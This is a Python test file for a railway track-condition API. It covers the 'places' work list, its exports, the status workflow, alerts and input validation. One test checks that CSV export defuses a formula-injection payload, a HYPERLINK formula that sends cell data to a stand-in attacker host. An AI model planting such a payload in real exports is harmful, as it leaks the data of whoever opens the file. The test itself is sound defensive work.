"""The places' service and API on a generated fleet history in the condition store (both databases):
the publish step's places update (:func:`app.places.update.update_places`), the work list and its
exports, a place's history, the status workflow (audited, roles), the bad-input answers, the alerts of
new places and tier changes, the method-version rule and a fixed place that comes back."""

from __future__ import annotations

import csv
import io

import numpy as np
import pytest
from sqlalchemy import select, update

from app.analysis.condition.tiers import TIER_NAMES
from app.db.models import (
    AuditEntry,
    Place,
    PlaceEventRow,
    PlaceRun,
    SegmentCondition,
    WebhookDelivery,
)
from app.db.webhooks import EVENT_PLACES, create_webhook
from app.places.update import apply_run
from tests.places.conftest import APPLIED, LINE, STEP_FROM_M, STEP_TO_M, apply_runs

URL = "/api/v1/condition/places"


def _listed(client, **params) -> dict:
    r = client.get(URL, params={"line_id": LINE, "limit": 1000, **params})
    assert r.status_code == 200, r.text
    return r.json()


def _step_place(items: list[dict]) -> dict:
    on = [p for p in items if p["km_from"] * 1000 < STEP_TO_M + 10 and STEP_FROM_M - 10 < p["km_to"] * 1000]
    assert len(on) == 1, on
    return on[0]


def test_the_planted_step_is_one_listed_place_with_its_history(places_fleet):
    out = _listed(places_fleet.clients["viewer"])
    assert out["quantity"] == "stiffness index ln(A/A_ref(class, v))" and out["total"] == len(out["items"]) > 0
    p = _step_place(out["items"])
    assert p["direction"] == "soft" and p["tier"] in TIER_NAMES[1:] and p["peak"] < 0
    assert abs(p["peak_percent"] - 100 * np.expm1(p["peak"])) < 1e-9
    assert "step" in p["evidence"] or "anomaly" in p["evidence"]
    assert p["status"] == "open" and p["active"] and p["runs_confirming"] >= 2
    assert p["method_version"].startswith("trackvkf-pipeline/")
    # the generated fleet states no 1-sigma: none answered (not 0), the tier as before
    assert p["peak_sd"] is None and p["change_sd"] is None and p["severity_sd"] is None
    h = places_fleet.clients["viewer"].get(f"{URL}/{p['id']}")
    assert h.status_code == 200, h.text
    hist = h.json()
    assert hist["id"] == p["id"] and len(hist["observations"]) == p["runs_confirming"]
    assert [o["run_time"] for o in hist["observations"]] == sorted(o["run_time"] for o in hist["observations"])
    assert all(o["method_version"] == p["method_version"] for o in hist["observations"])
    assert hist["observations"][-1]["speed_kmh"] > 0
    assert [e["kind"] for e in hist["events"]].count("new") == 1
    assert hist["first_seen"] >= "2025-03-26"  # not before the step (day 25)


def test_the_list_is_ranked_and_filtered(places_fleet):
    c = places_fleet.clients["viewer"]
    items = _listed(c, include_closed=True)["items"]
    keys = [(-TIER_NAMES.index(p["tier"]), not p["confirmed"], p["days_to_next_tier"] is None,
             p["days_to_next_tier"] or 0.0, -p["severity"]) for p in items]
    assert keys == sorted(keys)
    for tier in {p["tier"] for p in items}:
        got = _listed(c, tier=tier, include_closed=True)["items"]
        assert got and {p["tier"] for p in got} == {tier}
    page = c.get(URL, params={"line_id": LINE, "limit": 1, "offset": 1, "include_closed": True}).json()
    assert page["total"] == len(items) and [p["id"] for p in page["items"]] == [items[1]["id"]]


def test_an_open_place_not_seen_lately_is_off_the_list_whatever_the_statuses_asked(places_fleet):
    """The Condition page always asks for statuses (open, acknowledged, planned by default): an open place
    the lifecycle made inactive stays off that list as off the default one, and is on it with
    ``include_closed`` (the page's "also places not seen lately"). A walk of the real line's page found
    such a place listed beside the unticked box, which the API's default list left out."""
    c = places_fleet.clients["viewer"]
    asked = ["open", "acknowledged", "planned"]

    def ids(**params) -> set[int]:
        return {p["id"] for p in _listed(c, **params)["items"]}

    pid = next(p["id"] for p in _listed(c, status=asked)["items"] if p["confirmed"] and p["status"] == "open")
    with places_fleet.db.write() as s:
        s.execute(update(Place).where(Place.id == pid).values(active=False))
    try:
        assert pid not in ids(status=asked) and pid not in ids()
        assert pid in ids(status=asked, include_closed=True) and pid in ids(include_closed=True)
    finally:
        with places_fleet.db.write() as s:
            s.execute(update(Place).where(Place.id == pid).values(active=True))
    assert pid in ids(status=asked)


def test_every_place_gives_its_time_to_limit_with_its_interval_or_says_why_not(places_fleet):
    from app.places.answers import NO_PROJECTION

    items = _listed(places_fleet.clients["viewer"], include_closed=True)["items"]
    projected = [p for p in items if p["days_to_next_tier"] is not None]
    assert projected, [(p["tier"], p["tendency"]) for p in items]
    for p in projected:  # a growing place: at the fitted rate and at the ends of its 95 % interval
        assert p["no_projection"] is None and p["tendency"] == "growing" and p["next_tier"] is not None
        assert p["days_to_next_tier_early"] <= p["days_to_next_tier"], p
        late = p["days_to_next_tier_late"]
        assert late is None or late >= p["days_to_next_tier"], p
        assert p["projected_date_early"] <= p["projected_date"] and (late is None) == (p["projected_date_late"] is None)
    for p in items:
        if p["days_to_next_tier"] is None:
            assert p["no_projection"] in NO_PROJECTION and p["projected_date_early"] is None, p
            want = {"new": "too_few_runs", "shrinking": "shrinking", "stable": "stable"}.get(p["tendency"])
            assert p["no_projection"] in ("top_tier", "no_limit", want), p
            assert (p["no_projection"] == "top_tier") == (p["next_tier"] is None)


def test_exports_list_the_same_places(places_fleet):
    c = places_fleet.clients["viewer"]
    items = _listed(c)["items"]
    r = c.get(f"{URL}.csv", params={"line_id": LINE, "limit": 1000})
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert [int(x["id"]) for x in rows] == [p["id"] for p in items]
    assert rows[0]["tier"] == items[0]["tier"] and float(rows[0]["km_from"]) == items[0]["km_from"]
    for row, p in zip(rows, items, strict=True):  # the time to limit with its interval, or why there is none
        assert row["no_projection"] == (p["no_projection"] or "") and row["projected_date_late"] == \
            (p["projected_date_late"] or "")
        early = p["days_to_next_tier_early"]
        assert (row["days_to_next_tier_early"] == "") if early is None else \
            float(row["days_to_next_tier_early"]) == pytest.approx(early)
    g = c.get(f"{URL}.geojson", params={"line_id": LINE, "limit": 1000})
    assert g.status_code == 200 and g.headers["content-type"].startswith("application/geo+json")
    feats = g.json()["features"]
    assert [f["id"] for f in feats] == [p["id"] for p in items]
    assert all(f["geometry"] is None and f["properties"]["status"] for f in feats)  # no geometry imported


def test_bad_input_names_the_field(places_fleet):
    c, e = places_fleet.clients["viewer"], places_fleet.clients["engineer"]
    r = c.get(f"{URL}/2147480000")
    assert r.status_code == 404 and r.json()["field"] == "place_id"
    assert c.get(URL, params={"tier": "severe"}).json()["field"] == "tier"
    assert c.get(URL, params={"status": "done"}).json()["field"] == "status"
    assert c.get(URL, params={"line_id": "nope"}).status_code == 404
    pid = _listed(c)["items"][0]["id"]
    for body, field in (({"status": "planned"}, "comment"), ({"status": "planned", "comment": ""}, "comment"),
                        ({"status": "planned", "comment": "   "}, "comment"), ({"comment": "x"}, "status"),
                        ({"status": "repaired", "comment": "x"}, "status"),
                        ({"status": "planned", "comment": "x" * 2001}, "comment")):
        r = e.patch(f"{URL}/{pid}/status", json=body)
        assert r.status_code == 422 and r.json()["field"] == field, (body, r.text)
    r = e.patch(f"{URL}/2147480000/status", json={"status": "planned", "comment": "x"})
    assert r.status_code == 404 and r.json()["field"] == "place_id"
    r = c.patch(f"{URL}/{pid}/status", json={"status": "planned", "comment": "viewer tries"})
    assert r.status_code == 403
    assert c.get(f"{URL}/{pid}").json()["status_history"] == []  # nothing half-written


def test_status_workflow_is_recorded_and_audited(places_fleet):
    c, e = places_fleet.clients["viewer"], places_fleet.clients["engineer"]
    items = _listed(c)["items"]
    # the last place that is not the planted step's (later tests follow the step's place)
    step = _step_place(items)["id"]
    pid = [p["id"] for p in items if p["id"] != step][-1]
    for status, comment in (("acknowledged", "seen on the report"), ("planned", "tamping in week 14"),
                            ("false_alarm", "a welded joint, known")):
        r = e.patch(f"{URL}/{pid}/status", json={"status": status, "comment": comment})
        assert r.status_code == 200, r.text
        assert r.json()["status"] == status and r.json()["status_comment"] == comment
        assert r.json()["status_by"] == "key:engineer-key"
    hist = c.get(f"{URL}/{pid}").json()["status_history"]
    assert [(h["old"], h["new"], h["by"]) for h in hist] == [
        ("open", "acknowledged", "key:engineer-key"), ("acknowledged", "planned", "key:engineer-key"),
        ("planned", "false_alarm", "key:engineer-key")]
    with places_fleet.db.read() as s:
        audit = s.scalars(select(AuditEntry).where(AuditEntry.action == "place.status",
                                                   AuditEntry.target == str(pid)).order_by(AuditEntry.id)).all()
    assert [(a.actor, a.detail["old"], a.detail["new"]) for a in audit] == [
        ("key:engineer-key", "open", "acknowledged"), ("key:engineer-key", "acknowledged", "planned"),
        ("key:engineer-key", "planned", "false_alarm")]
    # closed: off the default list, on the list with include_closed or a status filter
    assert pid not in [p["id"] for p in _listed(c)["items"]]
    assert pid in [p["id"] for p in _listed(c, include_closed=True)["items"]]
    assert [p["id"] for p in _listed(c, status="false_alarm")["items"]] == [pid]


def test_a_run_is_applied_once_and_in_time_order(places_fleet):
    db, runs = places_fleet.db, places_fleet.run_ids
    (again,) = apply_runs(db, [runs[APPLIED - 1]])
    assert not again.applied and "already" in again.reason
    (older,) = apply_runs(db, [runs[0]])
    assert not older.applied
    with db.read() as s:
        assert s.scalar(select(PlaceRun.run_id).order_by(PlaceRun.run_time.desc()).limit(1)) == runs[APPLIED - 1]


def test_another_method_version_does_not_read_as_a_change_of_the_track(places_fleet):
    """The next runs, processed with another recipe whose amplitude over 30 m is 16 % higher: compared
    with the history of the old recipe that is a change (a place); compared only within their own
    version it is not."""
    db, runs = places_fleet.db, places_fleet.run_ids
    nxt = runs[APPLIED:APPLIED + 3]
    lo, hi = 12_000 // 10, 12_030 // 10  # a healthy stretch
    with db.write() as s:
        s.execute(update(SegmentCondition).where(SegmentCondition.run_id.in_(nxt), SegmentCondition.seg_m == 10,
                                                 SegmentCondition.seg >= lo, SegmentCondition.seg < hi)
                  .values(condition_index=SegmentCondition.condition_index + 0.15))
    from app.db.models import ConditionLine, Place

    def places_there(version_of) -> list:
        with db.read() as s:  # rolled back at the end: nothing stays
            line = s.scalar(select(ConditionLine).where(ConditionLine.line_id == LINE))
            for rid in nxt:
                up = apply_run(s, rid, line, version_of(s))
                assert up.applied, up.reason
            return [(p.start_m, p.end_m, p.direction) for p in s.scalars(select(Place))
                    if p.start_m < hi * 10 + 10 and lo * 10 - 10 < p.end_m and p.last_run_id in nxt]

    def same(s):
        return s.scalar(select(PlaceRun.method_version).where(PlaceRun.run_id == runs[APPLIED - 1]))

    assert places_there(same), "the recipe's change reads as the track's within one version"
    assert places_there(lambda s: "trackvkf-pipeline/3+another-recipe") == []
    with db.write() as s:  # undo
        s.execute(update(SegmentCondition).where(SegmentCondition.run_id.in_(nxt), SegmentCondition.seg_m == 10,
                                                 SegmentCondition.seg >= lo, SegmentCondition.seg < hi)
                  .values(condition_index=SegmentCondition.condition_index - 0.15))


def test_a_new_place_is_listed_from_the_run_that_finds_it_unconfirmed_and_alerted_when_confirmed(places_fleet):
    """A −22 % change over 20 m in the next run: on the list at once as new (``confirmed: false``, after the
    confirmed places of its tier, in the CSV too), no alert; the run after it that finds it again confirms it
    (``new`` event, alerted) — in a transaction rolled back."""
    from app.db.models import ConditionLine, Place
    from app.places.worklist import PlaceQuery, _page, labelled, places_csv

    db, runs = places_fleet.db, places_fleet.run_ids
    nxt = runs[APPLIED:APPLIED + 2]
    lo, hi = 12_000 // 10, 12_020 // 10  # a healthy stretch

    def there(items: list[dict]) -> list[dict]:
        return [p for p in items if p["km_from"] * 1000 < hi * 10 + 10 and lo * 10 - 10 < p["km_to"] * 1000]

    with db.read() as s:  # rolled back at the end: nothing stays
        s.execute(update(SegmentCondition).where(SegmentCondition.run_id.in_(nxt), SegmentCondition.seg_m == 10,
                                                 SegmentCondition.seg >= lo, SegmentCondition.seg < hi)
                  .values(condition_index=SegmentCondition.condition_index - 0.25))
        line = s.scalar(select(ConditionLine).where(ConditionLine.line_id == LINE))
        version = s.scalar(select(PlaceRun.method_version).where(PlaceRun.run_id == runs[APPLIED - 1]))
        up = apply_run(s, nxt[0], line, version)
        assert up.applied, up.reason
        lines, rows, total = _page(s, PlaceQuery(line_id=LINE, limit=1000))
        items = labelled(s, lines, rows)
        (new,) = there(items)
        assert new["confirmed"] is False and not new["listed"] and new["runs_confirming"] == 1
        assert new["direction"] == "soft" and new["tier"] != "watch" and new["last_run_id"] == nxt[0]
        assert all(p["confirmed"] for p in items if p["id"] != new["id"])
        tier = [p for p in items if p["tier"] == new["tier"]]
        assert tier[-1]["id"] == new["id"], "a new place comes after the confirmed places of its tier"
        assert not s.scalars(select(PlaceEventRow).where(PlaceEventRow.place_id == new["id"])).all()
        up = apply_run(s, nxt[1], line, version)
        assert up.applied, up.reason
        got = s.get(Place, new["id"])
        assert got.listed and got.runs_confirming == 2
        events = s.scalars(select(PlaceEventRow).where(PlaceEventRow.place_id == new["id"])).all()
        assert [(e.kind, e.alerted, e.run_id) for e in events] == [("new", True, nxt[1])]
    # and nothing of it stays: the list as the service answers it has no place there, the CSV the column
    assert there(_listed(places_fleet.clients["viewer"])["items"]) == []
    rows = list(csv.DictReader(io.StringIO(places_csv(db, PlaceQuery(line_id=LINE, limit=1000))[0])))
    assert rows and {r["confirmed"] for r in rows} == {"True"}


def test_alerts_only_for_new_places_and_tier_changes_and_a_fixed_place_back(places_fleet):
    """The remaining runs with a webhook: one delivery per run with a new place, a tier change or a
    place back, carrying the place's id and status; a place marked fixed that the next runs find again
    is reopened with its history (event back)."""
    db, runs, c, e = places_fleet.db, places_fleet.run_ids, places_fleet.clients["viewer"], \
        places_fleet.clients["engineer"]
    p = _step_place(_listed(c)["items"])
    r = e.patch(f"{URL}/{p['id']}/status", json={"status": "fixed", "comment": "ballast renewed"})
    assert r.status_code == 200
    with db.write() as s:
        create_webhook(s, "https://hooks.example.com/trackvkf")
    ups = apply_runs(db, runs[APPLIED:], alerts=True)
    assert all(u.applied for u in ups)
    with db.read() as s:
        deliveries = s.scalars(select(WebhookDelivery).where(WebhookDelivery.event == EVENT_PLACES)
                               .order_by(WebhookDelivery.id)).all()
        events = s.scalars(select(PlaceEventRow).where(PlaceEventRow.run_id.in_(runs[APPLIED:]))).all()
    alerted = [ev for ev in events if ev.alerted]
    assert {ev.kind for ev in alerted} <= {"new", "tier_up", "tier_down", "back"}
    assert len(deliveries) == len({ev.run_id for ev in alerted}) <= len(runs) - APPLIED
    sent = [(x["kind"], x["place_id"]) for d in deliveries for x in d.payload["events"]]
    assert sorted(sent) == sorted((ev.kind, ev.place_id) for ev in alerted)
    for d in deliveries:
        for x in d.payload["events"]:
            assert x["place"]["id"] == x["place_id"] and x["place"]["status"] in ("open", "acknowledged", "planned",
                                                                                   "fixed", "false_alarm")
    news = [ev.place_id for ev in alerted if ev.kind == "new"]
    assert len(news) == len(set(news))
    # the step is still there: the place marked fixed is reopened, with its history
    back = c.get(f"{URL}/{p['id']}").json()
    assert back["status"] == "open" and back["status_by"] == "trackvkf"
    assert "back" in [ev["kind"] for ev in back["events"]]
    assert [h["new"] for h in back["status_history"]][-2:] == ["fixed", "open"]
    assert len(back["observations"]) > p["runs_confirming"]
    assert any(x == ("back", p["id"]) for x in sent)


def test_run_segment_index_is_what_the_places_are_graded_on(places_fleet):
    from app.db.models import ConditionLine, Place
    from app.places.index import run_segment_index

    db = places_fleet.db
    with db.read() as s:
        last = s.scalar(select(PlaceRun.run_id).order_by(PlaceRun.run_time.desc()).limit(1))
        line = s.scalar(select(ConditionLine).where(ConditionLine.line_id == LINE))
        seg, index = run_segment_index(s, line, last)
        assert seg.size and np.isfinite(index).mean() > 0.5
        found = [p for p in s.scalars(select(Place).where(Place.last_run_id == last))
                 if p.runs_confirming and p.level is not None]
        assert found
        for p in found:
            k = int(np.searchsorted(seg, int(p.peak_m // 10)))
            if seg[k] == int(p.peak_m // 10) and np.isfinite(index[k]):
                assert index[k] == pytest.approx(p.level, abs=1e-9)


def test_places_on_known_discontinuities_are_labelled_and_muted_types_stay_listed(places_fleet):
    from dataclasses import replace

    from app.places.config import DEFAULT_PLACES_CONFIG
    from app.places.worklist import PlaceQuery, list_places

    c, e = places_fleet.clients["viewer"], places_fleet.clients["engineer"]
    p = _step_place(_listed(c)["items"])
    km = round((STEP_FROM_M + STEP_TO_M) / 2000.0, 3)
    body = f"line_id,track,type,km,km_to,name\n{LINE},1,weld,{km},,W1\n".encode()
    r = e.post("/api/v1/assets", files={"file": ("assets.csv", body, "text/csv")})
    assert r.status_code == 201, r.text
    got = _step_place(_listed(c)["items"])
    assert [(a["type"], a["name"]) for a in got["assets"]] == [("weld", "W1")] and not got["muted"]
    assert c.get(f"{URL}/{p['id']}").json()["assets"] == got["assets"]
    muted = replace(DEFAULT_PLACES_CONFIG, muted_asset_types=frozenset({"weld"}))
    items = list_places(places_fleet.db, PlaceQuery(line_id=LINE, limit=1000), muted)["items"]
    m = _step_place(items)
    assert m["muted"] and "weld" in m["muted_reason"] and len(items) == len(_listed(c)["items"])


def test_the_event_feed_lists_places_with_id_and_status(places_fleet):
    c = places_fleet.clients["viewer"]
    first = c.get(f"{URL}/events", params={"since": 0, "limit": 1000}).json()
    assert first["items"] and {x["kind"] for x in first["items"]} <= {"new", "tier_up", "tier_down", "back"}
    ids = [x["id"] for x in first["items"]]
    assert ids == sorted(ids) and first["next_since"] == ids[-1]
    assert all(x["place"]["id"] == x["place_id"] and x["place"]["status"] for x in first["items"])
    assert c.get(f"{URL}/events", params={"since": first["next_since"]}).json()["items"] == []
    every = c.get(f"{URL}/events", params={"since": 0, "limit": 1000, "every": True}).json()["items"]
    assert len(every) >= len(first["items"])
    assert c.get(f"{URL}/events", params={"since": -1}).json()["field"] == "since"


def test_csv_defuses_formulas_and_says_what_a_page_leaves_out(places_fleet):
    """issue 32 finding 4: an engineer's comment beginning with ``=`` is written as text; a page cut
    at ``limit`` says how many places the filters match and how many it leaves out."""
    c, e = places_fleet.clients["viewer"], places_fleet.clients["engineer"]
    items = _listed(c)["items"]
    pid = items[0]["id"]
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    r = e.patch(f"{URL}/{pid}/status", json={"status": "acknowledged", "comment": hostile})
    assert r.status_code == 200, r.text
    r = c.get(f"{URL}.csv", params={"line_id": LINE, "limit": 1000})
    rows = {int(x["id"]): x for x in csv.DictReader(io.StringIO(r.text))}
    assert rows[pid]["status_comment"] == "'" + hostile
    assert r.headers["x-total-count"] == str(len(items)) and r.headers["x-omitted-count"] == "0"
    assert any(float(x["peak"]) < 0 for x in rows.values())  # numbers stay numbers
    cut = c.get(f"{URL}.csv", params={"line_id": LINE, "limit": 1})
    assert len(list(csv.DictReader(io.StringIO(cut.text)))) == 1
    assert cut.headers["x-total-count"] == str(len(items)) and cut.headers["x-omitted-count"] == str(len(items) - 1)


def test_nul_in_a_body_is_refused_alike_on_both_backends(places_fleet):
    """issue 32 finding 5: NUL in a status comment is 422 naming ``comment`` (PostgreSQL answered 500,
    SQLite stored it); nothing is written."""
    c, e = places_fleet.clients["viewer"], places_fleet.clients["engineer"]
    p = _listed(c)["items"][0]
    before = c.get(f"{URL}/{p['id']}").json()["status_history"]
    r = e.patch(f"{URL}/{p['id']}/status", json={"status": "planned", "comment": "tamping\x00 week 3"})
    assert r.status_code == 422 and r.json()["field"] == "comment", r.text
    assert "NUL" in r.json()["detail"]
    assert c.get(f"{URL}/{p['id']}").json()["status_history"] == before
